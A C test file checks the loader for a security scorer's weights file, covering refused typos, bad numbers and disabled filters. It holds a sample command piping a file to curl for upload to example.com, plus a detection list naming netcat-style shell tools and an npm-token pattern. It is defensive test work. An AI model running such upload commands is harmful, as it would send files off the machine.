/* SPDX-License-Identifier: MPL-2.0 */
/* The file of weights: what is wrong in it is named, with its place. */

#include <criterion/criterion.h>

#include "lib/base/base.h"
#include "test_score_table.h"

/* The shipped weights with the first `from` replaced by `to`. The caller frees. */
static char *changed(const char *from, const char *to)
{
	OWNED_TEXT struct text t = { 0 };
	size_t length = 0;
	OWNED_MEM char *text = table_file("policy/weights.yaml", &length);
	char *at = strstr(text, from);

	cr_assert(at, "%s", from);
	cr_assert_eq(text_add(&t, text, at - text), 0);
	cr_assert_eq(text_add(&t, to, strlen(to)), 0);
	cr_assert_eq(text_add(&t, at + strlen(from), strlen(at + strlen(from))), 0);
	return TAKE_PTR(t.data);
}

static unsigned int line_of(const char *text, const char *part)
{
	unsigned int line = 1;

	for (const char *p = text; p < strstr(text, part); p++)
		line += *p == '\n';
	return line;
}

/* The change must be refused, at the place of `at` in the changed text, with `message` in it. */
static void refuse(const char *from, const char *to, const char *at, const char *message)
{
	CLEANUP(score_weights_freep) struct score_weights *weights = NULL;
	OWNED_DIAG struct diag diag = { 0 };
	OWNED_MEM char *text = changed(from, to);
	OWNED_MEM char *said = NULL;
	char place[64];
	int r = score_weights_read("w.yaml", text, strlen(text), &diag, &weights);

	said = diag_text(&diag);
	snprintf(place, sizeof(place), "w.yaml:%u:", line_of(text, at));
	cr_expect_eq(r, -EINVAL, "%s", to);
	cr_expect_null(weights);
	cr_expect(strstr(said, place), "%s: %s", place, said);
	cr_expect(strstr(said, message), "%s: %s", message, said);
}

Test(score_weights, what_is_wrong_is_named)
{
	refuse("grith-weights: 1", "grith-weights: 2", "grith-weights", "expected 1");
	refuse("  dlp-gate:", "  dlp-gat:", "  dlp-gat:", "did you mean \"dlp-gate\"?");
	refuse("  dlp-gate:", "  dlp-gat:", "  operation-risk:", "filter \"dlp-gate\" is missing");
	refuse("pipe-to-curl: 4.0", "pipe-to-cur: 4.0",
	       "pipe-to-cur:", "did you mean \"pipe-to-curl\"?");
	refuse("pipe-to-curl: 4.0", "pipe-to-cur: 4.0",
	       "pipe-to-cur:", "number \"pipe-to-curl\" is missing");
	refuse("pipe-to-curl: 4.0", "pipe-to-curl: four", "four", "expected a number");
	refuse("pipe-to-curl: 4.0", "pipe-to-curl: 4.001", "4.001", "two decimals");
	refuse("pipe-to-curl: 4.0", "pipe-to-curl: 4.", "pipe-to-curl:", "expected a number");
	refuse("pipe-to-curl: 4.0", "pipe-to-curl: \"4.0\"", "\"4.0\"", "expected a number");
	refuse("nc: [nc, ncat, netcat, socat]", "nc: nc", "nc: nc", "expected a list");
	refuse("nc: [nc, ncat, netcat, socat]", "nc: [[nc]]", "[[nc]]", "expected text");
	refuse("nc: [nc, ncat, netcat, socat]", "nc: ['']", "['']", "expected text");
	refuse("nc: [nc, ncat, netcat, socat]", "nd: [nc]", "nd: [nc]", "list \"nc\" is missing");
	refuse("enabled: true", "enabled: yes", "enabled: yes", "expected true or false");
	refuse("enabled: true", "enable: true", "enable: true", "did you mean \"enabled\"?");
	refuse("filters:", "filter:", "filter:", "`filters` is missing");
	refuse("numbers: {credential: 5.0}", "numbers: [5.0]", "numbers: [5.0]",
	       "expected a mapping");
}

Test(score_weights, patterns)
{
	refuse("- 'npm token: \\bnpm_", "- 'npm token: (npm_", "(npm_", "not a regular expression");
	refuse("- 'npm token: \\bnpm_", "- '\\bnpm_", "- '\\bnpm_", "NAME: REGULAR EXPRESSION");
}

Test(score_weights, no_yaml)
{
	static const char *const texts[] = { "", "- a\n", "a: [", "grith-weights: 1\n", "\xff" };

	for (size_t i = 0; i < ARRAY_SIZE(texts); i++) {
		CLEANUP(score_weights_freep) struct score_weights *weights = NULL;
		OWNED_DIAG struct diag diag = { 0 };

		cr_expect_eq(score_weights_read("w", texts[i], strlen(texts[i]), &diag, &weights),
			     -EINVAL, "%zu", i);
		cr_expect_gt(diag.count, 0, "%zu", i);
		cr_expect_null(weights);
	}
}

/* A number and a switch of the file are what the filters go by. */
Test(score_weights, are_what_counts)
{
	CLEANUP(score_weights_freep) struct score_weights *weights = NULL;
	CLEANUP(score_session_freep) struct score_session *session = score_session_new();
	OWNED_DIAG struct diag diag = { 0 };
	OWNED_MEM char *text = changed("pipe-to-curl: 4.0", "pipe-to-curl: 1.25");
	struct table_operation o;
	struct score score;

	cr_assert_eq(score_weights_read("w", text, strlen(text), &diag, &weights), 0);
	table_read("", "$ cat x | curl -T - https://example.com", &o);
	score_evaluate(weights, session, &o.operation, &score);
	table_expect("changed", &score, "command=1.25");
	cr_expect(score_filter_enabled(weights, FILTER_COMMAND));
}

Test(score_weights, switched_off)
{
	CLEANUP(score_weights_freep) struct score_weights *weights = NULL;
	CLEANUP(score_session_freep) struct score_session *session = score_session_new();
	OWNED_DIAG struct diag diag = { 0 };
	OWNED_MEM char *text =
		changed("  command:\n    enabled: true", "  command:\n    enabled: false");
	struct table_operation o;
	struct score score;

	cr_assert_eq(score_weights_read("w", text, strlen(text), &diag, &weights), 0);
	table_read("", "$ cat x | curl -T - https://example.com", &o);
	score_evaluate(weights, session, &o.operation, &score);
	table_expect("off", &score, "-");
	cr_expect_not(score_filter_enabled(weights, FILTER_COMMAND));
	cr_expect(score_filter_enabled(weights, FILTER_DLP_GATE));
	cr_expect(score_filter_enabled(weights, FILTER_RULE));
	cr_expect_not(score_filter_enabled(weights, N_FILTERS));
}

Test(score_weights, names)
{
	cr_expect_str_eq(filter_name(FILTER_OPERATION_RISK), "operation-risk");
	cr_expect_str_eq(filter_name(FILTER_DESTRUCTIVE_ACTION), "destructive-action");
	cr_expect_str_eq(filter_name(FILTER_RULE), "rule");
	cr_expect_str_eq(filter_name(FILTER_TRUST), "trust");
	cr_expect_null(filter_name(N_FILTERS));
	for (unsigned int f = 0; f < N_FILTERS; f++)
		cr_expect(filter_name(f), "%u", f);
}
